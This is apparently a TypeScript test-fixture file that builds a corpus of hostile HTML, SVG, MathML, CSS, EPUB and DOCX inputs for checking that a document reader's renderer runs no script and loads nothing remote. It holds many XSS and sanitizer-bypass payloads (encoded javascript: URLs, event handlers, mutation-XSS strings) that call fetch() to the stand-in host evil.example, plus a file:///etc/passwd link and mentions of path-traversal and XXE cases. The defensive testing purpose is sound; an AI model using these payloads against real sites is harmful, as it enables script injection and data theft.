/**
 * A corpus of hostile and malformed import inputs, made in code and seeded (the same options, the same
 * bytes), for the hostile-render run (`tests/faults/hostile-render.ts`): each is imported through the
 * real core and shown in the real renderer, which must run none of it and fetch nothing from outside.
 *
 * Every script payload calls `window.__scholiaPwned('<case name>')` and tries
 * `fetch('http://evil.example/<case name>')`; every remote resource points at `http://evil.example/…`
 * (or `https://evil.example/…`), a name that never resolves. The categories:
 *
 *   html-*        web pages: script tags; event handlers on every kind of element; javascript:, data:
 *                 and vbscript: URLs in every attribute that takes one; SVG, MathML, CSS, remote
 *                 resources (links, srcset, posters, backgrounds); template and noscript tricks;
 *                 mutation-XSS strings; entity-encoded, mixed-case and split attributes
 *   markdown      raw HTML, links and images with script and remote targets, reference links, autolinks
 *   epub, docx    the same payloads in chapters and Word runs, remote images, styles and templates
 *   zip-path      package entries named ../../etc, /absolute, with backslashes, very long names
 *   upload-name   the uploaded file's own name: ../, NUL, right-to-left override, 10,000 characters
 *   xml-entity    billion laughs and external entities (from hostile-inputs.ts)
 *   pdf           truncated, garbage cross-reference tables, wrong lengths, encrypted, script actions
 *   encoding      invalid UTF-8, lying charsets, UTF-7 and ISO-2022-JP tricks, NULs
 *   csl-json, bibtex, ris, csl-yaml   reference files: huge, deeply nested, odd, with payloads
 *   metadata      titles and authors carrying payloads, shown in the library list and the details
 *   annotations   W3C Web Annotation and Hypothesis files whose comments and tags carry payloads,
 *                 placed on the first case of the category (a plain text they quote)
 *
 * `full: false` keeps every size small, so that the whole corpus imports in seconds; `full: true`
 * uses the sizes of the torture run (a billion laughs, 100,000-deep nesting, 10,000 entries).
 */
import { deflateRawSync } from 'node:zlib';
import {
  billionLaughsDocx,
  billionLaughsEpub,
  bibtexFile,
  crc32,
  cslJsonFile,
  deepXmlDocx,
  deepXmlEpub,
  encryptPdf,
  flateBombPdf,
  oddRisFile,
  prose,
  sharedPageTreePdf,
  xxeDocx,
  xxeEpub,
} from './hostile-inputs';
import { xmlEscape } from './make-packages';
import { layoutPages, makePdf } from './make-pdf';
import { seededRandom } from './seeded-random';

/** One hostile input: the file name it is uploaded as, its category, and its bytes (made on demand). */
export interface HostileCase {
  readonly name: string;
  readonly category: string;
  readonly make: () => Uint8Array | string;
}

/** The host every remote payload points at; it never resolves. */
export const EVIL_HOST = 'evil.example';
const EVIL = `http://${EVIL_HOST}`;
const EVIL_TLS = `https://${EVIL_HOST}`;

/** The quotes the annotation files place their annotations on: sentences of the anchor text. */
export const ANCHOR_QUOTES = [
  'The workers of the city met in the square at dawn.',
  'Every reform of the plan was argued over for a winter.',
  'The wall came down in a night that nobody had planned.',
  'A reader keeps what the text says, and nothing that it does.',
] as const;

/** The script every payload runs: it reports the case and tries to send it outside. */
export function scriptFor(name: string): string {
  return `window.__scholiaPwned('${name}');fetch('${remoteFor(name)}')`;
}

/** The remote address every resource payload of the case points at. */
export function remoteFor(name: string, suffix = ''): string {
  return `${EVIL}/${encodeURIComponent(name)}${suffix}`;
}

function base64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64');
}

/** A 32-bit hash of `text` (FNV-1a), to seed each case's own prose. */
function hashOf(text: string): number {
  let hash = 0x811c9dc5;
  for (let index = 0; index < text.length; index += 1) {
    hash ^= text.charCodeAt(index);
    hash = Math.imul(hash, 0x01000193);
  }
  return hash >>> 0;
}

/** Seeded prose for a case: the same name, the same sentences. */
function proseFor(name: string, sentences: number): string {
  return prose(seededRandom(hashOf(name)), sentences);
}

/** The numeric character references of `text` (`&#106;&#97;…`), decimal or hex. */
function entities(text: string, hex = false): string {
  return Array.from(text)
    .map((char) => {
      const code = char.codePointAt(0) ?? 0;
      return hex ? `&#x${code.toString(16)};` : `&#${code};`;
    })
    .join('');
}

const encoder = new TextEncoder();

function bytesOf(...parts: (string | number[] | Uint8Array)[]): Uint8Array {
  return new Uint8Array(
    Buffer.concat(
      parts.map((part) =>
        typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.from(Uint8Array.from(part)),
      ),
    ),
  );
}

// ---------------------------------------------------------------------------------------------------
// ZIP packages (stored entries, any name at all, duplicates and Unix modes allowed)

interface ZipFile {
  readonly name: string;
  readonly content: Uint8Array | string;
  /** A Unix mode for the external attributes (e.g. a symbolic link, 0o120777). */
  readonly unixMode?: number;
  /** Deflate the entry (stored otherwise). */
  readonly deflate?: boolean;
}

/** A ZIP archive of `files`, in order, names as given (UTF-8), each honest about its size. */
function writeZip(files: readonly ZipFile[]): Uint8Array {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const file of files) {
    const name = Buffer.from(file.name, 'utf8');
    const content =
      typeof file.content === 'string' ? Buffer.from(file.content, 'utf8') : Buffer.from(file.content);
    const data = file.deflate === true ? deflateRawSync(content) : content;
    const method = file.deflate === true ? 8 : 0;
    const crc = crc32(content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.byteLength, 18);
    local.writeUInt32LE(content.byteLength, 22);
    local.writeUInt16LE(name.byteLength, 26);
    const header = Buffer.alloc(46);
    header.writeUInt32LE(0x02014b50, 0);
    header.writeUInt16LE(file.unixMode === undefined ? 20 : (3 << 8) | 20, 4);
    header.writeUInt16LE(20, 6);
    header.writeUInt16LE(0x0800, 8);
    header.writeUInt16LE(method, 10);
    header.writeUInt32LE(crc, 16);
    header.writeUInt32LE(data.byteLength, 20);
    header.writeUInt32LE(content.byteLength, 24);
    header.writeUInt16LE(name.byteLength, 28);
    header.writeUInt32LE(file.unixMode === undefined ? 0 : (file.unixMode << 16) >>> 0, 38);
    header.writeUInt32LE(offset, 42);
    parts.push(local, name, data);
    central.push(header, name);
    offset += 30 + name.byteLength + data.byteLength;
  }
  const centralSize = central.reduce((sum, part) => sum + part.byteLength, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(centralSize, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...parts, ...central, end]));
}

// ---------------------------------------------------------------------------------------------------
// EPUB

const CONTAINER_PATH = 'OEBPS/content.opf';

function containerXml(fullPath = CONTAINER_PATH): string {
  return (
    '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">' +
    `<rootfiles><rootfile full-path="${xmlEscape(fullPath)}" media-type="application/oebps-package+xml"/></rootfiles></container>`
  );
}

/** A chapter's XHTML around `body` (markup as given), with optional prolog, DOCTYPE and head. */
function chapterXhtml(
  body: string,
  options: { head?: string; doctype?: string; prolog?: string } = {},
): string {
  return (
    `<?xml version="1.0" encoding="utf-8"?>\n${options.prolog ?? ''}${options.doctype ?? '<!DOCTYPE html>'}\n` +
    '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" xmlns:xlink="http://www.w3.org/1999/xlink">' +
    `<head><title>Chapter</title>${options.head ?? ''}</head><body>${body}</body></html>`
  );
}

interface EpubParts {
  /** The OPF's `<dc:title>` content, as XML (escape text with `xmlEscape`). */
  readonly titleXml?: string;
  /** More metadata elements, as XML. */
  readonly metadataXml?: string;
  /** Each chapter's complete XHTML, at `OEBPS/text/ch<i>.xhtml` unless a path is given. */
  readonly chapters: readonly (string | { path: string; href?: string; xhtml: string | null })[];
  readonly manifestXml?: string;
  readonly spineXml?: string;
  /** An EPUB 3 navigation document (complete XHTML), listed with `properties="nav"`. */
  readonly nav?: string;
  readonly files?: readonly ZipFile[];
  /** What container.xml names as the package document. */
  readonly rootfile?: string;
}

function epub(parts: EpubParts): Uint8Array {
  const chapters = parts.chapters.map((chapter, index) =>
    typeof chapter === 'string'
      ? { path: `OEBPS/text/ch${index}.xhtml`, href: `text/ch${index}.xhtml`, xhtml: chapter }
      : {
          path: chapter.path,
          href: chapter.href ?? chapter.path.replace(/^OEBPS\//, ''),
          xhtml: chapter.xhtml,
        },
  );
  const items = chapters
    .map(
      (chapter, index) =>
        `<item id="c${index}" href="${xmlEscape(chapter.href)}" media-type="application/xhtml+xml"/>`,
    )
    .join('');
  const refs = chapters.map((_, index) => `<itemref idref="c${index}"/>`).join('');
  const navItem =
    parts.nav === undefined
      ? ''
      : '<item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>';
  const opf =
    `<?xml version="1.0" encoding="utf-8"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="uid">` +
    `<metadata xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:opf="http://www.idpf.org/2007/opf">` +
    `<dc:title>${parts.titleXml ?? 'A Hostile Book'}</dc:title>${parts.metadataXml ?? ''}` +
    `<dc:identifier id="uid">urn:uuid:1f6f3c2e-2222-4333-8444-955566667777</dc:identifier><dc:language>en</dc:language></metadata>` +
    `<manifest>${navItem}${items}${parts.manifestXml ?? ''}</manifest><spine>${refs}${parts.spineXml ?? ''}</spine></package>`;
  const files: ZipFile[] = [
    { name: 'mimetype', content: 'application/epub+zip' },
    { name: 'META-INF/container.xml', content: containerXml(parts.rootfile) },
    { name: CONTAINER_PATH, content: opf },
    ...(parts.nav === undefined ? [] : [{ name: 'OEBPS/nav.xhtml', content: parts.nav }]),
    ...chapters.flatMap((chapter) =>
      chapter.xhtml === null ? [] : [{ name: chapter.path, content: chapter.xhtml }],
    ),
    ...(parts.files ?? []),
  ];
  return writeZip(files);
}

/** A book of one chapter: `body` between two paragraphs of prose. */
function epubWithBody(
  name: string,
  body: string,
  options: { head?: string; doctype?: string; prolog?: string } = {},
): Uint8Array {
  return epub({
    titleXml: xmlEscape(`Hostile book ${name}`),
    chapters: [
      chapterXhtml(
        `<h1>Chapter of ${name}</h1><p>${proseFor(name, 3)}</p>${body}<p>${proseFor(`${name}:end`, 2)}</p>`,
        options,
      ),
    ],
  });
}

// ---------------------------------------------------------------------------------------------------
// DOCX

const DOCX_NS =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ' +
  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" ' +
  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
  'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" ' +
  'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A run of text. */
function run(text: string): string {
  return `<w:r><w:t xml:space="preserve">${xmlEscape(text)}</w:t></w:r>`;
}

/** A paragraph of runs (XML as given). */
function para(inner: string): string {
  return `<w:p>${inner}</w:p>`;
}

interface DocxParts {
  /** The inner XML of `<w:body>`. */
  readonly body: string;
  /** More `<Relationship>` elements of document.xml. */
  readonly relsXml?: string;
  readonly title?: string;
  readonly creator?: string;
  readonly files?: readonly ZipFile[];
  /** The package relationships' officeDocument target. */
  readonly officeDocument?: string;
  /** The path document.xml is written at. */
  readonly documentPath?: string;
}

function docx(parts: DocxParts): Uint8Array {
  const documentPath = parts.documentPath ?? 'word/document.xml';
  const core =
    '<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" ' +
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/">' +
    (parts.title === undefined ? '' : `<dc:title>${xmlEscape(parts.title)}</dc:title>`) +
    (parts.creator === undefined ? '' : `<dc:creator>${xmlEscape(parts.creator)}</dc:creator>`) +
    '</cp:coreProperties>';
  return writeZip([
    {
      name: '[Content_Types].xml',
      content:
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
        `<Override PartName="/${documentPath}" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
        '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>',
    },
    {
      name: '_rels/.rels',
      content:
        `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
        `<Relationship Id="rId1" Type="${REL}/officeDocument" Target="${xmlEscape(parts.officeDocument ?? documentPath)}"/>` +
        `<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>`,
    },
    {
      name: 'word/_rels/document.xml.rels',
      content:
        `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
        `${parts.relsXml ?? ''}</Relationships>`,
    },
    {
      name: documentPath,
      content: `<?xml version="1.0" encoding="UTF-8"?><w:document ${DOCX_NS}><w:body>${parts.body}</w:body></w:document>`,
    },
    { name: 'docProps/core.xml', content: core },
    ...(parts.files ?? []),
  ]);
}

/** A Word document with prose around `inner` (XML of paragraphs). */
function docxAround(name: string, inner: string, parts: Omit<DocxParts, 'body'> = {}): Uint8Array {
  return docx({
    title: `Hostile document ${name}`,
    ...parts,
    body: para(run(proseFor(name, 3))) + inner + para(run(proseFor(`${name}:end`, 2))),
  });
}

function externalRel(id: string, type: string, target: string): string {
  return `<Relationship Id="${id}" Type="${REL}/${type}" Target="${xmlEscape(target)}" TargetMode="External"/>`;
}

// ---------------------------------------------------------------------------------------------------
// HTML

/** A web page whose article holds `body` between paragraphs of prose (enough for Readability). */
function htmlPage(
  name: string,
  body: string,
  options: { head?: string; title?: string; bodyAttrs?: string } = {},
): string {
  return (
    `<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>${options.title ?? `Hostile page ${name}`}</title>${options.head ?? ''}</head>` +
    `<body${options.bodyAttrs ?? ''}><article><h1>Hostile page ${name}</h1><p>${proseFor(name, 4)}</p>\n${body}\n` +
    `<p>${proseFor(`${name}:end`, 4)}</p></article></body></html>`
  );
}

/** What a payload builder gets: the case name, its script and its remote address. */
interface Payload {
  readonly name: string;
  readonly js: string;
  readonly url: string;
}

function payloadFor(name: string): Payload {
  return { name, js: scriptFor(name), url: remoteFor(name) };
}

type Add = (category: string, name: string, make: () => Uint8Array | string) => void;

function htmlScriptCases(add: Add): void {
  const cases: [string, (p: Payload) => { body: string; head?: string } | string][] = [
    ['inline', (p) => `<script>${p.js}</script>`],
    ['head', (p) => ({ body: '<p>The script is in the head.</p>', head: `<script>${p.js}</script>` })],
    ['remote-src', (p) => `<script src="${p.url}.js"></script>`],
    [
      'remote-src-tls',
      (p) => `<script src="${EVIL_TLS}/${encodeURIComponent(p.name)}.js" async defer></script>`,
    ],
    ['module', (p) => `<script type="module">${p.js}</script>`],
    ['uppercase', (p) => `<SCRIPT>${p.js}</SCRIPT>`],
    ['split-tag', (p) => `<scr<script>ipt>${p.js}</scr</script>ipt>`],
    ['after-html', (p) => `<p>Text.</p></article></body></html><script>${p.js}</script>`],
    ['in-paragraph', (p) => `<p>Before the script <script>${p.js}</script> and after it.</p>`],
    ['unclosed', (p) => `<p>An unclosed script follows.</p><script>${p.js}`],
    ['comment-trick', (p) => `<!--<script>--><script>${p.js}</script><!-- -->`],
    ['cdata', (p) => `<script><![CDATA[${p.js}]]></script>`],
    [
      'json-breakout',
      (p) => `<script type="application/ld+json">{"a":"</script><script>${p.js}</script>"}</script>`,
    ],
    ['data-src', (p) => `<script src="data:text/javascript,${encodeURIComponent(p.js)}"></script>`],
    ['event-for', (p) => `<script for="window" event="onload">${p.js}</script>`],
    ['in-pre', (p) => `<pre>code: <script>${p.js}</script></pre>`],
    ['in-code', (p) => `<p><code>&lt;script&gt;${xmlEscape(p.js)}&lt;/script&gt;</code> shown as code.</p>`],
    [
      'importmap',
      (p) =>
        `<script type="importmap">{"imports":{"a":"${p.url}.js"}}</script><script type="module">import "a";</script>`,
    ],
  ];
  for (const [slug, build] of cases) {
    const name = `html-script-${slug}.html`;
    add('html-script', name, () => {
      const built = build(payloadFor(name));
      return typeof built === 'string'
        ? htmlPage(name, built)
        : htmlPage(name, built.body, { head: built.head ?? '' });
    });
  }
}

/** Every kind of element, each given an event handler (and what makes the event fire). */
const ELEMENTS = (
  'a abbr address area article aside audio b bdi bdo big blink blockquote body br button canvas caption center cite code ' +
  'col colgroup data datalist dd del details dfn dialog dir div dl dt em embed fieldset figcaption figure font footer form ' +
  'frame frameset h1 h2 h3 h4 h5 h6 header hgroup hr i iframe image img input ins isindex kbd keygen label legend li listing ' +
  'main map mark marquee menu meter multicol nav nextid nobr noembed noframes object ol optgroup option output p param picture ' +
  'plaintext pre progress q rb rp rt rtc ruby s samp search section select slot small source spacer span strike strong sub ' +
  'summary sup svg table tbody td textarea tfoot th thead time tr track tt u ul var video wbr xmp math custom-element'
).split(' ');

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbegin',
  'onscroll',
  'onfocusin',
  'onauxclick',
  'onmouseenter',
  'oninput',
  'onbeforetoggle',
  'ontransitionstart',
  'onwheel',
  'onpageshow',
  'onresize',
  'oncontentvisibilityautostatechange',
];

const VOID_ELEMENTS = new Set(
  'area br col embed frame hr image img input isindex keygen param source track wbr nextid spacer'.split(' '),
);

/** How many kinds of element one event-handler case holds. */
const ELEMENTS_PER_CASE = 4;

function htmlEventCases(add: Add): void {
  for (let from = 0; from < ELEMENTS.length; from += ELEMENTS_PER_CASE) {
    const group = ELEMENTS.slice(from, from + ELEMENTS_PER_CASE);
    const name = `html-event-${group.join('-')}.html`;
    add('html-event-handler', name, () => {
      const { js } = payloadFor(name);
      const markup = group.map((element, index) => {
        const event = EVENTS[(from + index) % EVENTS.length] ?? 'onerror';
        const attrs =
          `${event}="${js}" onerror="${js}" src="x" autofocus tabindex="0" open popover ` +
          `style="animation:1s x;transition:1s;content-visibility:auto"`;
        const open = `<${element} ${attrs}>`;
        const tag = VOID_ELEMENTS.has(element)
          ? open
          : `${open}Text inside the ${element} element.</${element}>`;
        return `<p>Before the ${element} element.</p>${tag}<p>After the ${element} element.</p>`;
      });
      return htmlPage(name, markup.join('\n'), {
        bodyAttrs: group.includes('body') ? ` onload="${js}"` : '',
      });
    });
  }
}

/** URL payloads: what goes into an attribute that takes an address. */
const SCHEMES: [string, (p: Payload) => string][] = [
  ['javascript', (p) => `javascript:${p.js}`],
  ['data-html', (p) => `data:text/html;base64,${base64(`<script>${p.js}</script>`)}`],
  ['vbscript', (p) => `vbscript:msgbox("${p.name}")`],
  ['remote', (p) => p.url],
];

/** More ways of writing a javascript: URL, tried in a link. */
const LINK_SCHEMES: [string, (p: Payload) => string][] = [
  ['javascript-mixed-case', (p) => `JaVaScRiPt:${p.js}`],
  ['javascript-entities', (p) => `${entities('javascript')}:${p.js}`],
  ['javascript-hex-entities', (p) => `${entities('javascript:', true)}${p.js}`],
  ['javascript-tab', (p) => `java&#x09;script:${p.js}`],
  ['javascript-newline', (p) => `java\nscript:${p.js}`],
  ['javascript-control', (p) => `&#14;javascript:${p.js}`],
  ['javascript-leading-space', (p) => `   javascript:${p.js}`],
  ['javascript-colon-entity', (p) => `javascript&colon;${p.js}`],
  [
    'data-svg',
    (p) =>
      `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${p.js}"/>`)}`,
  ],
  ['data-uppercase', (p) => `DATA:text/html,<script>${p.js}</script>`],
  ['protocol-relative', (p) => `//${EVIL_HOST}/${encodeURIComponent(p.name)}`],
  ['file', () => 'file:///etc/passwd'],
  ['percent-encoded', (p) => `%6A%61%76%61%73%63%72%69%70%74:${p.js}`],
];

const URL_ATTRIBUTES: [string, (url: string) => string][] = [
  ['a-href', (url) => `<a href="${url}">a link to follow</a>`],
  [
    'area-href',
    (url) =>
      `<map name="m"><area shape="rect" coords="0,0,50,50" href="${url}" alt="area"></map><img usemap="#m" src="x">`,
  ],
  ['form-action', (url) => `<form action="${url}"><input name="q"><button>Send</button></form>`],
  ['button-formaction', (url) => `<form><button formaction="${url}">Send</button></form>`],
  ['input-formaction', (url) => `<form><input type="submit" formaction="${url}" value="Send"></form>`],
  ['iframe-src', (url) => `<iframe src="${url}"></iframe>`],
  [
    'iframe-srcdoc',
    (url) =>
      `<iframe srcdoc="&lt;a href=&quot;${url}&quot;&gt;x&lt;/a&gt;&lt;script&gt;parent.location='${url}'&lt;/script&gt;"></iframe>`,
  ],
  ['object-data', (url) => `<object data="${url}">fallback</object>`],
  ['embed-src', (url) => `<embed src="${url}">`],
  ['img-src', (url) => `<img src="${url}" alt="picture">`],
  ['svg-a-xlink', (url) => `<svg><a xlink:href="${url}"><text y="20">svg link</text></a></svg>`],
  ['math-href', (url) => `<math href="${url}"><mi>x</mi></math>`],
  ['base-href', (url) => `<base href="${url}"><a href="relative">relative link</a>`],
  ['meta-refresh', (url) => `<meta http-equiv="refresh" content="0;url=${url}">`],
  ['blockquote-cite', (url) => `<blockquote cite="${url}"><p>A quotation.</p></blockquote>`],
  ['frame-src', (url) => `<frameset><frame src="${url}"></frameset>`],
];

function htmlUrlCases(add: Add): void {
  for (const [attribute, place] of URL_ATTRIBUTES) {
    const name = `html-url-${attribute}.html`;
    add('html-url', name, () => {
      const payload = payloadFor(name);
      const body = SCHEMES.map(
        ([scheme, url]) => `<p>An address (${scheme}) follows.</p>${place(url(payload))}`,
      );
      return htmlPage(name, body.join('\n'));
    });
  }
  for (const [scheme, url] of LINK_SCHEMES) {
    const name = `html-url-a-href-${scheme}.html`;
    add('html-url', name, () =>
      htmlPage(name, `<p>A link: <a href="${url(payloadFor(name))}">follow me</a>.</p>`),
    );
  }
}

function htmlSvgCases(add: Add): void {
  const cases: [string, (p: Payload) => string][] = [
    ['onload', (p) => `<svg onload="${p.js}"><circle r="5"/></svg>`],
    ['script', (p) => `<svg><script>${p.js}</script></svg>`],
    ['script-href', (p) => `<svg><script href="${p.url}.js"/></svg>`],
    [
      'foreignobject',
      (p) =>
        `<svg><foreignObject width="100" height="50"><img src="x" onerror="${p.js}"><p>in foreignObject</p></foreignObject></svg>`,
    ],
    [
      'use-data',
      (p) =>
        `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${p.js}"/></svg>`)}#x"/></svg>`,
    ],
    ['use-remote', (p) => `<svg><use href="${p.url}.svg#a"/><use xlink:href="${p.url}.svg#b"/></svg>`],
    ['animate-onbegin', (p) => `<svg><animate onbegin="${p.js}" attributeName="x" dur="1s"/></svg>`],
    [
      'set-href',
      (p) =>
        `<svg><a><set attributeName="href" to="javascript:${p.js}"/><text y="20">svg set</text></a></svg>`,
    ],
    ['image-remote', (p) => `<svg><image href="${p.url}.png" width="10" height="10"/></svg>`],
    [
      'feimage',
      (p) =>
        `<svg><filter id="f"><feImage href="${p.url}.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    ],
    ['style-import', (p) => `<svg><style>@import url(${p.url}.css);</style></svg>`],
    ['uppercase', (p) => `<SVG ONLOAD="${p.js}"><TEXT>upper</TEXT></SVG>`],
    ['handler-on-text', (p) => `<svg><text onmouseover="${p.js}" y="20">hover me</text></svg>`],
  ];
  for (const [slug, build] of cases) {
    const name = `html-svg-${slug}.html`;
    add('html-svg', name, () => htmlPage(name, `<p>An SVG image follows.</p>${build(payloadFor(name))}`));
  }
  const xhtml = 'html-svg-xhtml-script.xhtml';
  add('html-svg', xhtml, () => {
    const { js, url } = payloadFor(xhtml);
    return (
      `<?xml version="1.0" encoding="utf-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>XHTML with SVG</title>` +
      `<link rel="stylesheet" href="${url}.css"/></head><body><article><h1>XHTML with SVG</h1><p>${proseFor(xhtml, 4)}</p>` +
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><script>${js}</script></svg><p>${proseFor(`${xhtml}:2`, 3)}</p></article></body></html>`
    );
  });
  const standalone = 'html-svg-standalone.svg';
  add(
    'html-svg',
    standalone,
    () =>
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${scriptFor(standalone)}"><script>${scriptFor(standalone)}</script></svg>`,
  );
}

function htmlMathCases(add: Add): void {
  const cases: [string, (p: Payload) => string][] = [
    [
      'maction',
      (p) =>
        `<math><maction actiontype="statusline" xlink:href="javascript:${p.js}">click<mtext>${EVIL}</mtext></maction></math>`,
    ],
    ['href', (p) => `<math href="javascript:${p.js}"><mi>x</mi></math>`],
    ['mglyph-style', (p) => `<math><mtext><table><mglyph><style><img src="x" onerror="${p.js}">`],
    ['mi-xlink', (p) => `<math><mi xlink:href="javascript:${p.js}">x</mi></math>`],
    [
      'annotation-xml-html',
      (p) =>
        `<math><annotation-xml encoding="text/html"><img src="x" onerror="${p.js}"></annotation-xml></math>`,
    ],
    [
      'semantics-script',
      (p) =>
        `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${p.js}</script></annotation-xml></semantics></math>`,
    ],
    ['mtext-iframe', (p) => `<math><mtext><iframe src="javascript:${p.js}"></iframe></mtext></math>`],
  ];
  for (const [slug, build] of cases) {
    const name = `html-mathml-${slug}.html`;
    add('html-mathml', name, () => htmlPage(name, `<p>A formula follows.</p>${build(payloadFor(name))}`));
  }
}

function htmlCssCases(add: Add): void {
  const cases: [string, (p: Payload) => string][] = [
    ['style-url', (p) => `<p style="background:url(${p.url})">A styled paragraph.</p>`],
    [
      'style-image-set',
      (p) => `<p style="background-image:image-set(&quot;${p.url}&quot; 1x)">Image set.</p>`,
    ],
    ['style-expression', (p) => `<p style="width:expression(${p.js})">An expression.</p>`],
    [
      'style-binding',
      (p) => `<p style="-moz-binding:url(${p.url}.xml#x);behavior:url(${p.url}.htc)">Bindings.</p>`,
    ],
    [
      'style-cursor-list',
      (p) =>
        `<ul style="list-style-image:url(${p.url}.png);cursor:url(${p.url}.cur),auto"><li>An item.</li></ul>`,
    ],
    ['style-escaped-url', (p) => `<p style="background:u\\72l(${p.url})">Escaped url().</p>`],
    [
      'style-javascript-url',
      (p) => `<p style="background:url(&quot;javascript:${p.js}&quot;)">Script url().</p>`,
    ],
    [
      'style-bold-and-url',
      (p) =>
        `<p><span style="font-weight:bold;background:url(${p.url})">bold</span> and <span style="font-style:italic;border-image:url(${p.url}) 30">italic</span>.</p>`,
    ],
    ['style-element-import', (p) => `<style>@import url("${p.url}.css");</style><p>A style element.</p>`],
    [
      'style-element-font-face',
      (p) => `<style>@font-face{font-family:x;src:url(${p.url}.woff)}p{font-family:x}</style><p>A font.</p>`,
    ],
    [
      'style-element-background',
      (p) =>
        `<style>body{background:url("${p.url}")} p::after{content:url(${p.url}.png)}</style><p>Backgrounds.</p>`,
    ],
    [
      'style-element-head',
      (p) =>
        `<p>The style element is in the body.</p><style>@import '${EVIL_TLS}/${encodeURIComponent(p.name)}.css';</style>`,
    ],
  ];
  for (const [slug, build] of cases) {
    const name = `html-css-${slug}.html`;
    add('html-css', name, () => htmlPage(name, build(payloadFor(name))));
  }
}

function htmlResourceCases(add: Add): void {
  const rels = [
    'stylesheet',
    'preload',
    'prefetch',
    'dns-prefetch',
    'preconnect',
    'icon',
    'modulepreload',
    'import',
    'manifest',
    'prerender',
  ];
  for (const [where, inHead] of [
    ['head', true],
    ['body', false],
  ] as const) {
    const name = `html-resource-link-rels-in-${where}.html`;
    add('html-resource', name, () => {
      const links = rels
        .map((rel) => `<link rel="${rel}" href="${remoteFor(name, `-${rel}`)}" as="script">`)
        .join('');
      return htmlPage(name, `<p>Link elements of every kind.</p>${inHead ? '' : links}`, {
        head: inHead ? links : '',
      });
    });
  }
  const cases: [string, (p: Payload) => string][] = [
    ['img-srcset', (p) => `<img srcset="${p.url}-1.png 1x, ${p.url}-2.png 2x" alt="srcset">`],
    [
      'picture-source',
      (p) =>
        `<picture><source srcset="${p.url}.webp" type="image/webp"><img src="${p.url}.png" alt="picture"></picture>`,
    ],
    [
      'video-poster',
      (p) => `<video poster="${p.url}.jpg" src="${p.url}.mp4" autoplay><track src="${p.url}.vtt"></video>`,
    ],
    [
      'audio-src',
      (p) => `<audio src="${p.url}.mp3" autoplay></audio><audio><source src="${p.url}.ogg"></audio>`,
    ],
    ['input-image', (p) => `<form><input type="image" src="${p.url}.png" alt="go"></form>`],
    [
      'body-background',
      (p) =>
        `<p>The body has a background.</p><table background="${p.url}.png"><tr><td background="${p.url}-td.png">cell</td></tr></table>`,
    ],
    ['a-ping', (p) => `<p><a href="https://example.org/" ping="${p.url}">a link that pings</a></p>`],
    [
      'img-longdesc-lowsrc',
      (p) => `<img longdesc="${p.url}" lowsrc="${p.url}.gif" dynsrc="${p.url}.avi" alt="old attributes">`,
    ],
    ['bgsound', (p) => `<bgsound src="${p.url}.mid"><p>A sound.</p>`],
    [
      'object-codebase',
      (p) =>
        `<object codebase="${p.url}/" classid="clsid:x" data="movie.swf"><param name="movie" value="${p.url}.swf"></object>`,
    ],
    ['applet', (p) => `<applet code="Evil.class" codebase="${p.url}/"></applet>`],
    [
      'meta-refresh-remote',
      (p) => `<meta http-equiv="refresh" content="1; URL='${p.url}'"><p>Refreshing.</p>`,
    ],
    [
      'base-relative',
      (p) =>
        `<base href="${EVIL}/"><p><a href="${encodeURIComponent(p.name)}">relative</a> <img src="${encodeURIComponent(p.name)}.png" alt="relative"></p>`,
    ],
